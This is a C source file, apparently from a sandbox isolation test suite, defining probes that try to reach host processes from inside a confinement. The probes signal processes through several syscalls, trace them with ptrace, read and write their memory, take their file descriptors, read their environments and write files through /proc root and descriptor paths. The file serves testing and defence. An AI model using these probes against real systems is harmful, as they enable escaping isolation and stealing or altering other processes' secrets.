#include "attack.h"
#include <dirent.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/uio.h>
#include <sys/wait.h>

static int report = -1;
static char memory[64];

static void on_signal(int signal) {
  char text[32];
  int length = snprintf(text, sizeof text, "%d\n", signal);
  if (write(report, text, length) < 0) _exit(1);
}

/* REPORT SECRET-FILE TEXT: a process of the host to attack. It writes each signal it gets into REPORT. */
static int victim(int argc, char **argv) {
  report = open(argv[1], O_WRONLY | O_APPEND | O_CREAT, 0666);
  if (dup2(open(argv[2], O_RDONLY), 77) != 77) return failed("open");
  snprintf(memory, sizeof memory, "%s", argv[3]);
  memset(argv[3], 'x', strlen(argv[3]));
  for (int signal = 1; signal <= SIGRTMAX; signal++)
    if (signal != SIGCHLD) sigaction(signal, &(struct sigaction){.sa_handler = on_signal}, NULL);
  printf("%p\n", (void *)memory);
  fflush(stdout);
  for (;;) pause();
}

/* PID SIGNAL each. */
static int by_tkill(int argc, char **argv) { return syscall(SYS_tkill, atoi(argv[1]), atoi(argv[2])) ? failed("tkill") : 0; }
static int by_tgkill(int argc, char **argv) {
  return syscall(SYS_tgkill, atoi(argv[1]), atoi(argv[1]), atoi(argv[2])) ? failed("tgkill") : 0;
}
static int by_sigqueue(int argc, char **argv) {
  union sigval value = {0};
  return sigqueue(atoi(argv[1]), atoi(argv[2]), value) ? failed("sigqueue") : 0;
}
static int by_pidfd(int argc, char **argv) {
  int fd = syscall(SYS_pidfd_open, atoi(argv[1]), 0);
  return syscall(SYS_pidfd_send_signal, fd, atoi(argv[2]), NULL, 0) ? failed("pidfd_send_signal") : 0;
}

/* PID SIGNAL: through a descriptor of its directory in /proc, which is a pidfd as well. */
static int by_proc_fd(int argc, char **argv) {
  char name[64];
  snprintf(name, sizeof name, "/proc/%s", argv[1]);
  int fd = open(name, O_RDONLY | O_DIRECTORY);
  return syscall(SYS_pidfd_send_signal, fd, atoi(argv[2]), NULL, 0) ? failed("pidfd_send_signal") : 0;
}

/* PID SIGNAL: the kernel sends it, for a pipe that becomes readable. */
static int by_sigio(int argc, char **argv) {
  int pipes[2];
  if (pipe(pipes) || fcntl(pipes[0], F_SETOWN, atoi(argv[1])) || fcntl(pipes[0], F_SETSIG, atoi(argv[2])))
    return failed("F_SETOWN");
  if (fcntl(pipes[0], F_SETFL, O_ASYNC)) return failed("O_ASYNC");
  return put(pipes[1], "x");
}

/* SIGNAL: to every process that can be signalled. Only in a pid namespace of its own. */
static int everyone(int argc, char **argv) {
  signal(atoi(argv[1]), SIG_IGN);
  return kill(-1, atoi(argv[1])) ? failed("kill -1") : said();
}

/* PID: attaches and detaches, or seizes. */
static int trace(int argc, char **argv) {
  int pid = atoi(argv[1]), status;
  if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return failed("PTRACE_SEIZE");
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  waitpid(pid, &status, __WALL);
  return ptrace(PTRACE_DETACH, pid, 0, 0) ? failed("PTRACE_DETACH") : said();
}

/* PID ADDRESS */
static int vm_read(int argc, char **argv) {
  char text[64] = "";
  struct iovec own = {text, sizeof text - 1}, there = {(void *)strtoul(argv[2], NULL, 0), sizeof text - 1};
  if (syscall(SYS_process_vm_readv, atoi(argv[1]), &own, 1, &there, 1, 0) < 0) return failed("process_vm_readv");
  return puts(text) < 0;
}

/* PID ADDRESS TEXT */
static int vm_write(int argc, char **argv) {
  struct iovec own = {argv[3], strlen(argv[3])}, there = {(void *)strtoul(argv[2], NULL, 0), strlen(argv[3])};
  return syscall(SYS_process_vm_writev, atoi(argv[1]), &own, 1, &there, 1, 0) < 0 ? failed("process_vm_writev") : 0;
}

/* PID ADDRESS [TEXT]: through /proc/PID/mem. */
static int proc_mem(int argc, char **argv) {
  char name[64], text[64] = "";
  snprintf(name, sizeof name, "/proc/%s/mem", argv[1]);
  int fd = open(name, O_RDWR);
  off_t at = strtoul(argv[2], NULL, 0);
  if (argc > 3) return pwrite(fd, argv[3], strlen(argv[3]), at) < 0 ? failed("pwrite") : 0;
  return pread(fd, text, sizeof text - 1, at) < 0 ? failed("pread") : puts(text) < 0;
}

/* PID FD: takes a descriptor of the process and prints what it reads there. */
static int take_fd(int argc, char **argv) {
  char text[256] = "";
  int fd = syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, atoi(argv[1]), 0), atoi(argv[2]), 0);
  if (fd < 0) return failed("pidfd_getfd");
  return pread(fd, text, sizeof text - 1, 0) < 0 ? 0 : puts(text) < 0;
}

/* PID: changes its limits, priority or processors. */
static int set_limit(int argc, char **argv) {
  struct rlimit limit = {0, RLIM_INFINITY};
  return prlimit(atoi(argv[1]), RLIMIT_CORE, &limit, NULL) ? failed("prlimit") : said();
}
static int renice(int argc, char **argv) {
  return setpriority(PRIO_PROCESS, atoi(argv[1]), 7) ? failed("setpriority") : said();
}
static int pin(int argc, char **argv) {
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(0, &one);
  return sched_setaffinity(atoi(argv[1]), sizeof one, &one) ? failed("sched_setaffinity") : said();
}
static int idle(int argc, char **argv) {
  struct sched_param none = {0};
  return sched_setscheduler(atoi(argv[1]), SCHED_IDLE, &none) ? failed("sched_setscheduler") : said();
}
static int page_out(int argc, char **argv) {
  struct iovec there = {(void *)(strtoul(argv[2], NULL, 0) & ~4095UL), 4096};
  int fd = syscall(SYS_pidfd_open, atoi(argv[1]), 0);
  return syscall(SYS_process_madvise, fd, &there, 1, MADV_COLD, 0) < 0 ? failed("process_madvise") : said();
}
static int compare(int argc, char **argv) {
  return syscall(SYS_kcmp, getpid(), atoi(argv[1]), 2, 0, 0) < 0 ? failed("kcmp") : said();
}

/* The next process in /proc other than this one, or 0. */
static int next_pid(DIR *proc) {
  for (struct dirent *entry; proc && (entry = readdir(proc));)
    if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid()) return atoi(entry->d_name);
  return 0;
}

/* PATH: prints which of our helper processes' doors are open: writes into PATH as seen by each other process. */
static int other_roots(int argc, char **argv) {
  char name[8192];
  const char *doors[] = {"root", "cwd/../../../../../../../.."};
  DIR *proc = opendir("/proc");
  for (int pid; (pid = next_pid(proc)) > 0;) {
    for (int door = 0; door < 2; door++) {
      snprintf(name, sizeof name, "/proc/%d/%s%s", pid, doors[door], argv[1]);
      if (put(open(name, O_WRONLY), argv[2]) == 0) return 0;
    }
    for (int fd = 0; fd < 32; fd++) {
      snprintf(name, sizeof name, "/proc/%d/fd/%d/../../../../../../../..%s", pid, fd, argv[1]);
      if (put(open(name, O_WRONLY), argv[2]) == 0) return 0;
    }
  }
  return 1;
}

/* For each process but our own tree: whether its memory can be opened, it can be traced, or its descriptors be taken. */
static int helpers_open(int argc, char **argv) {
  char name[64];
  int won = 0, only = argc > 1 ? atoi(argv[1]) : 0;
  DIR *proc = opendir("/proc");
  for (int pid; (pid = only > 0 ? only : next_pid(proc)) > 0; only = only > 0 ? -1 : only) {
    if (only < 0) break;
    snprintf(name, sizeof name, "/proc/%d/mem", pid);
    if (open(name, O_RDWR) >= 0) won += printf("memory of %d " PWNED "\n", pid);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) won += printf("trace of %d " PWNED "\n", pid);
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; fd < 64; fd++)
      if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0) won += printf("descriptor %d of %d " PWNED "\n", fd, pid);
    snprintf(name, sizeof name, "/proc/%d/environ", pid);
    if (open(name, O_RDONLY) >= 0) won += printf("environment of %d " PWNED "\n", pid);
  }
  return won == 0;
}

const struct attack process_attacks[] = {
    {"victim", victim},       {"tkill", by_tkill},     {"tgkill", by_tgkill},   {"sigqueue", by_sigqueue},
    {"pidfd", by_pidfd},      {"proc-fd", by_proc_fd}, {"sigio", by_sigio},     {"everyone", everyone},
    {"trace", trace},         {"vm-read", vm_read},    {"vm-write", vm_write},  {"proc-mem", proc_mem},
    {"take-fd", take_fd},     {"limit", set_limit},    {"renice", renice},      {"pin", pin},
    {"idle", idle},           {"page-out", page_out},  {"compare", compare},    {"other-roots", other_roots},
    {"helpers-open", helpers_open},                    {NULL, NULL},
};
